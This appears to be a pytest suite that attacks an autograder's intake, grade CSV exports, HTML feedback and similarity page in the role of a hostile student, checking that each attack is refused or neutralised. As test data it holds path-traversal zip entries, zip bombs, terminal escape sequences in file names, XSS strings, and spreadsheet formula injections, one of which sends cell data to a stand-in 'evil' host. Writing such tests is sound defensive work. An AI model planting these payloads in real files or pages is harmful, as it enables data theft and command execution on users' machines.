"""A hostile student against grade-all's intake, its grade exports, the similarity page and the feedback's curve.

Each test is one attack; the class is built here in the shapes Gradescope and Canvas write (see
test_classroom_intake.py) and nothing trains or grades for real, so the whole file takes seconds.
"""

import csv
import math
import os
import zipfile
from pathlib import Path

import pytest

from autograder.classroom import intake
from autograder.classroom.exports import write_canvas_csv, write_detailed_csv, write_gradescope_csv
from autograder.classroom.gradebook import StudentRow
from autograder.classroom.intake import ClassroomError, read_submissions
from autograder.classroom.report import render_html, render_markdown
from autograder.classroom.similarity import compare_class, write_page
from autograder.engine.results import build_results
from test_classroom_intake import in_process_grading, toy_with  # noqa: F401 - a fixture

FILES = ("toy.py",)


def metadata(*submitters) -> str:
    """submission_metadata.yml for (folder, name, sid, email, created_at) tuples."""
    lines = []
    for folder, name, sid, email, created in submitters:
        lines += [f"{folder}:", "  :submitters:", f"  - :name: {name!r}", f"    :sid: {sid!r}",
                  f"    :email: {email!r}", f"  :created_at: {created}", "  :history: []"]
    return "\n".join(lines) + "\n"


def zipped(path: Path, files: dict[str, bytes | str], compression=zipfile.ZIP_DEFLATED) -> Path:
    with zipfile.ZipFile(path, "w", compression) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return path


ALICE = ("submission_1", "Alice Smith", "1001", "alice@uni.edu", "2026-10-01 10:00:00 -07:00")
BOB = ("submission_2", "Bob Jones", "2002", "bob@uni.edu", "2026-10-01 11:00:00 -07:00")


# -- intake: links, devices, traversal, bombs, size --------------------------------------------------------------


def test_export_folder_links_and_fifos_are_never_followed(tmp_path):
    secret = tmp_path / "instructor_home"
    secret.mkdir()
    (secret / "toy.py").write_text("REFERENCE SOLUTION\n")
    export = tmp_path / "export"
    for folder in ("submission_1", "submission_2"):
        (export / folder).mkdir(parents=True)
        (export / folder / "notes.txt").write_text("a file of the student's that is not graded\n")
    (export / "submission_metadata.yml").write_text(metadata(ALICE, BOB))
    (export / "submission_1" / "toy.py").symlink_to(secret / "toy.py")  # a link to the instructor's file
    (export / "submission_1" / "home").symlink_to(secret, target_is_directory=True)  # ...and to a folder
    os.mkfifo(export / "submission_2" / "toy.py")  # a read would block forever
    found = {s.student_id: s for s in read_submissions(export, "gradescope", FILES, tmp_path / "staged")}
    assert sorted(found) == ["1001", "2002"]
    staged = [p for p in (tmp_path / "staged").rglob("*") if p.name != intake._STAGING_MARKER]
    assert [p for p in staged if not p.is_dir()] == []  # nothing staged: not the link, not the folder, not the fifo


@pytest.mark.parametrize("entry", ["export/submission_1/../../../escaped.py", "/etc/toy.py"])
def test_export_zip_entry_outside_the_export_is_refused(tmp_path, entry):
    export = zipped(tmp_path / "export.zip", {"export/submission_metadata.yml": metadata(ALICE),
                                              "export/submission_1/toy.py": "x = 1\n", entry: "pwned\n"})
    with pytest.raises(ClassroomError, match="export.zip: the zip entry .* (outside the archive|absolute path)"):
        read_submissions(export, "gradescope", FILES, tmp_path / "staged")
    assert not (tmp_path / "escaped.py").exists() and not (tmp_path / "staged").exists()


def test_one_students_zip_bomb_does_not_stop_the_class(tmp_path, capsys):
    zeros = b"0" * (8 * 1024 * 1024)  # compresses ~1000x: past the 200x every zip entry is held to
    export = zipped(tmp_path / "export.zip", {
        "export/submission_metadata.yml": metadata(ALICE, BOB),
        "export/submission_1/toy.py": b"SCORE = 10\n" + zeros,  # the bomb is a file grading needs: left out
        "export/submission_2/toy.py": "SCORE = 3\n",
        "export/submission_2/weights.bin": zeros,  # a file of zeros nobody grades: no reason to refuse anything
    })
    found = {s.student_id: s for s in read_submissions(export, "gradescope", FILES, tmp_path / "staged")}
    assert sorted(found) == ["1001", "2002"]
    assert not (found["1001"].path / "toy.py").exists()
    assert (found["2002"].path / "toy.py").read_text() == "SCORE = 3\n"
    err = capsys.readouterr().err
    assert "submission_1/toy.py: expands" in err and "zip bomb" in err and "graded without it" in err
    assert "weights.bin" not in err


def test_a_file_over_the_staging_cap_is_left_out_not_the_class(tmp_path, monkeypatch, capsys):
    monkeypatch.setattr(intake, "_MAX_STAGED_FILE_BYTES", 1000)
    download = tmp_path / "canvas"
    download.mkdir()
    (download / "smithalice_111_9001_toy.py").write_text("SCORE = 9\n" + "#" * 5000)
    (download / "jonesbob_222_9002_toy.py").write_text("SCORE = 3\n")
    found = {s.student_id: s for s in read_submissions(download, "canvas", FILES, tmp_path / "staged")}
    assert not (found["111"].path / "toy.py").exists()
    assert (found["222"].path / "toy.py").read_text() == "SCORE = 3\n"
    assert "smithalice_111_9001_toy.py is larger than 1000 bytes" in capsys.readouterr().err


def test_one_student_cannot_fill_the_disk_with_many_files(tmp_path, monkeypatch, capsys):
    monkeypatch.setattr(intake, "_MAX_STAGED_STUDENT_BYTES", 2500)
    download = tmp_path / "canvas"
    download.mkdir()
    for i in range(5):
        (download / f"smithalice_111_{9001 + i}_part{i}.zip").write_bytes(b"z" * 1000)
    (download / "jonesbob_222_9100_toy.py").write_text("SCORE = 3\n")
    found = {s.student_id: s for s in read_submissions(download, "canvas", FILES, tmp_path / "staged")}
    assert sorted(p.name for p in found["111"].path.iterdir()) == ["part0.zip", "part1.zip"]
    assert (found["222"].path / "toy.py").is_file()
    assert "part2.zip is larger than 500 bytes (what is left of the 2500 bytes staged per student)" \
        in capsys.readouterr().err


def test_thousands_of_entries_and_control_characters_in_names(tmp_path):
    files = {f"jonesbob_222_{9000 + i}_junk{i}.txt": "x" for i in range(3000)}
    files["smithalice_111_9001_no\nte\x1b[2J.txt"] = "an odd name Canvas kept"  # no reason to stop the class
    files["smithalice_111_9002_toy.py"] = "SCORE = 9\n"
    download = zipped(tmp_path / "submissions.zip", files)
    found = {s.student_id: s for s in read_submissions(download, "canvas", FILES, tmp_path / "staged")}
    assert sorted(found) == ["111", "222"]
    assert sorted(p.name for p in found["111"].path.iterdir()) == ["toy.py"]
    assert list(found["222"].path.iterdir()) == []


def test_a_file_name_cannot_drive_the_instructors_terminal(tmp_path, capsys):
    from autograder.cli import main

    download = tmp_path / "canvas"
    download.mkdir()
    (download / "smithalice_111_9001_toy.py").write_text("x = 1\n")
    (download / "\x1b]2;pwned\x07\x1b[2J_toy.py").write_text("x = 1\n")  # not a Canvas name: refused, and quoted
    code = main(["grade-all", str(TOY / "graders"), str(download), "--source", "canvas", "--gradebook",
                 str(tmp_path / "grades.db"), "--no-progress", "--insecure-no-sandbox"])
    err = capsys.readouterr().err
    assert code == 2 and "\x1b" not in err and "\\x1b]2;pwned\\x07\\x1b[2J_toy.py: expected <loginname>" in err


# -- intake: identities -----------------------------------------------------------------------------------------


def test_a_crafted_sid_is_left_out_and_the_class_is_graded(tmp_path, capsys):
    export = tmp_path / "export"
    mallory = ("submission_3", "Mallory", "../x", "mallory@uni.edu", "2026-10-01 12:00:00 -07:00")
    for folder in ("submission_1", "submission_2", "submission_3"):
        (export / folder).mkdir(parents=True)
        (export / folder / "toy.py").write_text(f"# {folder}\n")
    (export / "submission_metadata.yml").write_text(metadata(ALICE, BOB, mallory))
    found = read_submissions(export, "gradescope", FILES, tmp_path / "staged")
    assert [s.student_id for s in found] == ["1001", "2002"]
    assert "submission_3: submitter 'Mallory' left out: no usable :sid:" in capsys.readouterr().err
    assert not (tmp_path / "x").exists()


def test_a_sid_typed_by_two_students_grades_neither(tmp_path, capsys):
    """Mallory sets her SID to Bob's and submits later: her work must not become Bob's grade (nor Bob's hers)."""
    export = tmp_path / "export"
    mallory = ("submission_3", "Mallory", "2002", "mallory@uni.edu", "2026-10-02 12:00:00 -07:00")
    alice_again = ("submission_0", "Alice Smith", "1001", "ALICE@uni.edu", "2026-09-30 10:00:00 -07:00")
    for folder in ("submission_0", "submission_1", "submission_2", "submission_3"):
        (export / folder).mkdir(parents=True)
        (export / folder / "toy.py").write_text(f"# {folder}\n")
    (export / "submission_metadata.yml").write_text(metadata(ALICE, BOB, mallory, alice_again))
    found = {s.student_id: s for s in read_submissions(export, "gradescope", FILES, tmp_path / "staged")}
    assert list(found) == ["1001"]  # Alice's two submissions (same person, email in other case): her latest
    assert found["1001"].reference == "submission_1"
    err = capsys.readouterr().err
    assert "SID 2002 is given by different students (submission_2: bob@uni.edu; submission_3: mallory@uni.edu)" \
        in err and "none of them is graded" in err


def test_sids_that_differ_only_in_case_grade_neither(tmp_path, capsys):
    """On a case-insensitive disk `AB12` and `ab12` would be one staging folder: one's files graded as the other's."""
    export = tmp_path / "export"
    victim = ("submission_1", "Vic", "ab12", "vic@uni.edu", "2026-10-01 10:00:00 -07:00")
    mallory = ("submission_3", "Mallory", "AB12", "mallory@uni.edu", "2026-10-01 12:00:00 -07:00")
    for folder in ("submission_1", "submission_2", "submission_3"):
        (export / folder).mkdir(parents=True)
        (export / folder / "toy.py").write_text(f"# {folder}\n")
    (export / "submission_metadata.yml").write_text(metadata(victim, BOB, mallory))
    assert [s.student_id for s in read_submissions(export, "gradescope", FILES, tmp_path / "staged")] == ["2002"]
    assert "SIDs AB12, ab12 differ only in case; none of them is graded" in capsys.readouterr().err


def test_a_crafted_canvas_name_cannot_pass_as_another_users_file(tmp_path):
    """A login with `_<userid>_<id>` in it would make Canvas's name read as the victim's (user 222) upload."""
    download = tmp_path / "canvas"
    download.mkdir()
    (download / "jonesbob_222_9010_toy.py").write_text("# bob\n")
    (download / "x_222_9999_333_9500_sub.zip").write_bytes(b"PK\x05\x06" + b"\0" * 18)
    with pytest.raises(ClassroomError, match=r"x_222_9999_333_9500_sub.zip: user id 222 also has files of login "
                                             r"'jonesbob'"):
        read_submissions(download, "canvas", FILES, tmp_path / "staged")


def test_a_late_resubmission_cannot_hide_behind_an_on_time_file(tmp_path):
    download = tmp_path / "canvas"
    download.mkdir()
    (download / "smithalice_111_9001_toy.py").write_text("# on time\n")
    zipped(download / "smithalice_LATE_111_9050_redo.zip", {"toy.py": "# late\n"})
    (alice,) = read_submissions(download, "canvas", FILES, tmp_path / "staged")
    assert alice.late and sorted(p.name for p in alice.path.iterdir()) == ["redo.zip", "toy.py"]


# -- exports: CSV formula injection ----------------------------------------------------------------------------


def row(**fields) -> StudentRow:
    base = dict(student_id="1001", first_name="", last_name="", email="", status="graded", error="", auto_score=8.0,
                written_score=0.0, score=8.0, max_score=10.0, auto_max=10.0, source="gradescope")
    return StudentRow(**{**base, **fields})


def read_csv(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def test_student_chosen_text_never_becomes_a_spreadsheet_formula(tmp_path):
    evil = row(first_name='=HYPERLINK("http://evil/?"&A1,"click")', last_name="+cmd|' /C calc'!A0",
               email="@SUM(1+1)*cmd", status="error", error="-2+3 grading failed\nrest")
    plain = row(student_id="2002", first_name="Jean-Luc", last_name="O'Brien", email="jl@uni.edu", score=9.5)
    canvas = row(student_id="333", last_name="\t=1+1", source="canvas", score=7.0)
    write_detailed_csv(tmp_path / "detailed.csv", "toy", [evil, plain], [], {})
    write_canvas_csv(tmp_path / "canvas.csv", "toy (1)", [evil, plain, canvas])
    write_gradescope_csv(tmp_path / "gradescope.csv", [evil, plain])
    for name in ("detailed.csv", "canvas.csv", "gradescope.csv"):
        for line in read_csv(tmp_path / name)[1:]:
            for cell in line:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
    detailed = read_csv(tmp_path / "detailed.csv")
    assert detailed[1][1:4] == ["'" + evil.first_name, "'" + evil.last_name, "'" + evil.email]
    assert detailed[1][-1].startswith("'-2+3")
    assert detailed[2][:4] == ["2002", "Jean-Luc", "O'Brien", "jl@uni.edu"]  # real names and ids untouched
    canvas_lines = read_csv(tmp_path / "canvas.csv")
    assert canvas_lines[3] == ["O'Brien, Jean-Luc", "", "2002", "", "", "9.5"]
    assert canvas_lines[4][:2] == ["'\t=1+1", "333"] and canvas_lines[4][-1] == "7"
    assert read_csv(tmp_path / "gradescope.csv")[2] == ["Jean-Luc O'Brien", "2002", "jl@uni.edu", "9.5"]


# -- feedback: forged curves and printed HTML --------------------------------------------------------------------


def results_with_curve(curve, output="") -> dict:
    events = [{"event": "collected", "tests": [{"id": "t.py::test_acc", "name": "test_acc", "points": 10,
                                                "extra_credit": False, "visibility": "visible"}]},
              {"event": "result", "id": "t.py::test_acc", "passed": True, "fraction": 0.25, "message": "",
               "output": output, "training_curve": {**curve, "threshold": 0.9, "floor": 0.2, "measured": 0.4}},
              {"event": "finished", "exitstatus": 0}]
    return build_results(events, harness_problem=None, intake_summary="", extra_data={"assignment": "toy"},
                         execution_time=0.0)


FORGED = {
    "huge floats": {"steps": [1, 2, 3], "loss": [1e308, -1e308, 1.7e308], "accuracy": [1e308, -5e300, None]},
    "nan": {"steps": [1, 2], "loss": [math.nan, 1.0], "accuracy": [0.1, 0.2]},
    "inf": {"steps": [1, 2], "loss": [math.inf, 1.0], "accuracy": [0.1, 0.2]},
    "strings": {"steps": [1, 2], "loss": ["<script>", 1.0], "accuracy": [0.1, 0.2]},
    "bools": {"steps": [True, 2], "loss": [1.0, 1.0], "accuracy": [0.1, 0.2]},
    "non-monotone": {"steps": [1, 3, 2], "loss": [1.0] * 3, "accuracy": [0.1] * 3},
    "a million points": {"steps": list(range(1, 10**6 + 1)), "loss": [1.0] * 10**6, "accuracy": [0.5] * 10**6},
    "extra key": {"steps": [1], "loss": [1.0], "accuracy": [0.1], "html": "<img src=x onerror=alert(1)>"},
}


@pytest.mark.parametrize("forged", FORGED, ids=list(FORGED))
def test_a_forged_curve_never_moves_the_score_nor_breaks_the_page(forged):
    results = results_with_curve(FORGED[forged], output="<script>alert(1)</script>\n````\n# not a heading")
    assert results["score"] == 2.5 and results["tests"][0]["score"] == 2.5  # 25% of 10, whatever the curve says
    kept = results["tests"][0]["extra_data"].get("training_curve")
    drawn = forged in ("huge floats", "extra key")  # finite numbers, steps from 1 up: drawn (the extra key dropped)
    assert (kept is not None) == drawn and (kept is None or set(kept) == {"steps", "loss", "accuracy", "threshold",
                                                                          "floor", "measured"})
    page = render_html(results)
    assert "<script>" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "onerror" not in page
    assert ("data:image/png;base64," in page) == drawn
    markdown = render_markdown(results)
    assert markdown.count("````") == 2  # the student's own fence cannot close the one around their output


def test_a_curve_the_plot_cannot_draw_still_gives_the_feedback(monkeypatch):
    from autograder.classroom import report

    def broken(curve):
        raise ValueError("matplotlib gave up")

    monkeypatch.setattr(report, "curve_png", broken)
    page = render_html(results_with_curve({"steps": [1], "loss": [1.0], "accuracy": [0.5]}))
    assert "The plot could not be drawn: ValueError" in page and "test_acc" in page


# -- similarity: submissions built to crash or stall copydetect -------------------------------------------------


TOY = Path(__file__).resolve().parent / "fixtures" / "engine" / "toy"


def test_similarity_survives_hostile_code_and_says_what_it_skipped(tmp_path):
    from autograder.assignment import load_assignment
    from autograder.classroom.intake import find_submissions

    toy = load_assignment(TOY / "graders")
    solution = (TOY / "solution" / "toy.py").read_text()
    hostile = {
        "alice": solution.encode(),
        "bob": (solution.replace("rounds", "n_rounds") + "\n# mine\n").encode(),
        "binary": os.urandom(4096) + b"\0\xff\xfe",  # bytes that are no text, named .py
        "deep": b"x = " + b"(" * 20000 + b"1" + b")" * 20000 + b"\n",  # nesting no parser survives
        "comments": b"# only a comment\n",  # no tokens at all
        "empty": b"",
        "huge": b"x = 1\n" * (3 * 1024 * 1024 // 6),  # past the intake's 2 MB per file
        "long": b"x = 1\n" * (600 * 1024 // 6),  # taken by the intake, but copydetect would take ~5 s on it
        "html": b"s = '</pre><script>alert(1)</script>'\n" + solution.encode(),
    }
    class_dir = tmp_path / "class"
    for student, code in hostile.items():
        (class_dir / student).mkdir(parents=True)
        (class_dir / student / "toy.py").write_bytes(code)
    report = compare_class(toy, find_submissions(class_dir))
    assert "huge" in report.not_compared and "bytes" in report.not_compared["huge"]
    assert "submissions over 524288 bytes are not compared" in report.not_compared["long"]
    assert {"alice", "bob", "binary", "deep", "comments", "html"} <= set(report.compared)
    assert any({p.first, p.second} == {"alice", "bob"} for p in report.pairs)
    page = write_page(tmp_path / "similarity.html", "toy", report).read_text()
    assert "<script>alert(1)" not in page and "Not compared" in page and "huge" in page


def test_grade_all_goes_on_when_copydetect_breaks(tmp_path, monkeypatch, capsys):
    import argparse

    from autograder.classroom import similarity

    def broken(*args, **kwargs):
        raise RuntimeError("copydetect fell over")

    monkeypatch.setattr(similarity, "compare_class", broken)
    class_dir = tmp_path / "class"
    (class_dir / "alice").mkdir(parents=True)
    args = argparse.Namespace(no_similarity=False, summary_dir=tmp_path / "summary", assignment=str(TOY / "graders"),
                              solutions_dir=None, release_dir=None, submissions=class_dir, source="auto",
                              staging_dir=None)
    similarity.write_beside_summary(args)  # must not raise: the grading run is done and its outputs written
    assert "similarity report not written: RuntimeError: copydetect fell over" in capsys.readouterr().err


# -- the whole run ------------------------------------------------------------------------------------------------


def test_grade_all_on_a_hostile_gradescope_export(tmp_path, in_process_grading, capsys):
    """One crafted name, one crafted SID and one bomb in a class: the others are graded and the CSVs are safe."""
    from autograder.cli import main

    evil = ("submission_1", '=HYPERLINK("http://evil")', "1001", "alice@uni.edu", "2026-10-01 10:00:00 -07:00")
    bomb = ("submission_2", "Bob Jones", "2002", "bob@uni.edu", "2026-10-01 11:00:00 -07:00")
    crafted = ("submission_3", "Mallory", "../../x", "", "2026-10-01 12:00:00 -07:00")
    export = zipped(tmp_path / "export.zip", {
        "export/submission_metadata.yml": metadata(evil, bomb, crafted),
        "export/submission_1/toy.py": "SCORE = 9\n",
        "export/submission_2/toy.py": b"SCORE = 10\n" + b"0" * (8 * 1024 * 1024),
        "export/submission_3/toy.py": "SCORE = 10\n",
    })
    out = tmp_path / "out"
    code = main(["grade-all", str(toy_with(tmp_path, "")), str(export), "--gradebook", str(tmp_path / "grades.db"),
                 "--no-progress", "--insecure-no-sandbox", "--csv", str(out / "detailed.csv"),
                 "--gradescope-csv", str(out / "gradescope.csv"), "--canvas-csv", str(out / "canvas.csv")])
    err = capsys.readouterr().err
    assert code == 0, err
    assert "2 submissions, 2 to grade" in err and "'Mallory' left out" in err and "zip bomb" in err
    assert read_csv(out / "gradescope.csv")[1:] == [["'=HYPERLINK(\"http://evil\")", "1001", "alice@uni.edu", "9"],
                                                    ["Bob Jones", "2002", "bob@uni.edu", "0"]]
    assert read_csv(out / "canvas.csv")[2][:3] == ["'=HYPERLINK(\"http://evil\")", "", "1001"]
    assert read_csv(out / "detailed.csv")[1][:2] == ["1001", "'=HYPERLINK(\"http://evil\")"]
    assert not list(tmp_path.rglob("x"))
